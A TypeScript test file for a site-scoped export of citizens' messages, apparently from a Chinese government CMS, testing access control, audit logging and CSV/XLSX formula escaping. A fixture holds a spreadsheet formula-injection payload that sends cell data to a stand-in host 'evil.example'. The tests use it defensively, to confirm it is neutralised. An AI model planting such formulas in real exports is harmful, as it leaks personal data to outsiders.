import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { clientAs, createSiteWithStaff, createUser, type SiteWithStaff } from '../support/fixtures'
import { storeMessage } from '../support/mailbox'
import { startTestServer, type TestServer } from '../support/payload'
import { Message } from '../../src/states'

/**
 * 留言导出 (issue #13 隐私): a site's messages with personal data, as CSV or XLSX, only for that site's handling
 * staff; every export is in the audit log (who, when, which filter, how many rows); a formula typed by a
 * citizen stays text in the spreadsheet.
 */

let server: TestServer
let a: SiteWithStaff
let b: SiteWithStaff
const formula = '=HYPERLINK("https://evil.example/?"&A1,"点击")'

beforeAll(async () => {
  server = await startTestServer()
  a = await createSiteWithStaff(server.payload, 'EA')
  b = await createSiteWithStaff(server.payload, 'EB')
  await storeMessage(server.payload, a.site, { subject: formula, submitter: { name: '@SUM(1+1)', phone: '13700000001', email: 'one@example.com' } })
  await storeMessage(server.payload, a.site, { subject: '导出测试二', status: Message.signed, submitter: { name: '王二', phone: '13700000002' } })
  await storeMessage(server.payload, b.site, { subject: '别的网站', submitter: { name: '赵六', phone: '13700000009' } })
})
afterAll(async () => server?.close())

const download = (token: string, query: string) => fetch(`${server.url}/api/messages/export?${query}`, { headers: { Authorization: `JWT ${token}` } })

const exportEntries = async () =>
  (await server.payload.find({ collection: 'audit-log', where: { action: { equals: 'export' } }, overrideAccess: true, sort: 'at' })).docs

describe('GET /api/messages/export', () => {
  it('CSV for the site editor: the site’s letters with personal data, formulas neutralised, audit-logged', async () => {
    const editor = await clientAs(server.url, a.editor)
    const response = await download(editor.token!, `site=${a.site.id}&format=csv`)
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toContain('text/csv')
    expect(response.headers.get('cache-control')).toBe('no-store')
    const csv = await response.text()
    expect(csv).toContain('13700000001')
    expect(csv).toContain('13700000002')
    expect(csv).not.toContain('13700000009')
    expect(csv).toContain(`"'=HYPERLINK(`)
    expect(csv).toContain(`'@SUM(1+1)`)
    expect(csv.trim().split('\r\n')).toHaveLength(3)
    const [entry] = (await exportEntries()).slice(-1)
    expect(entry).toMatchObject({ targetCollection: 'messages', documentId: String(a.site.id), actorName: a.editor.name })
    expect(entry!.summary).toContain('导出留言个人信息 2 条（CSV')
    expect(entry!.summary).toContain('筛选：全部')
    expect(String(typeof entry!.site === 'object' ? entry!.site?.id : entry!.site)).toBe(String(a.site.id))
    expect(entry!.at).toBeTruthy()
  })

  it('XLSX with a status filter: one row, the filter and count in the audit log', async () => {
    const reviewer = await clientAs(server.url, a.reviewer)
    const response = await download(reviewer.token!, `site=${a.site.id}&format=xlsx&status=${Message.signed}&from=2000-01-01`)
    expect(response.status).toBe(200)
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(Buffer.from(await response.arrayBuffer()) as never)
    const sheet = book.worksheets[0]!
    const values = sheet.getSheetValues().filter(Boolean).map((row) => (row as unknown[]).slice(1))
    expect(values).toHaveLength(3) // title, header, one row
    expect(values[2]).toContain('王二')
    const [entry] = (await exportEntries()).slice(-1)
    expect(entry!.summary).toContain('导出留言个人信息 1 条（XLSX')
    expect(entry!.summary).toContain('状态=已签收')
    expect(entry!.summary).toContain('收到自 2000-01-01')
  })

  it('refuses other sites’ staff, the openness officer, the general office and anonymous callers; nothing is logged', async () => {
    const before = (await exportEntries()).length
    for (const user of [b.editor, a.opennessOfficer, await createUser(server.payload, { roles: ['supervisor'] })]) {
      const response = await download((await clientAs(server.url, user)).token!, `site=${a.site.id}&format=csv`)
      expect(response.status).toBe(403)
      expect(await response.text()).toContain('只有本网站的办理人员')
    }
    expect((await fetch(`${server.url}/api/messages/export?site=${a.site.id}`)).status).toBe(401)
    const editor = await clientAs(server.url, a.editor)
    expect((await download(editor.token!, `site=${a.site.id}&format=pdf`)).status).toBe(400)
    expect((await exportEntries()).length).toBe(before)
  })
})
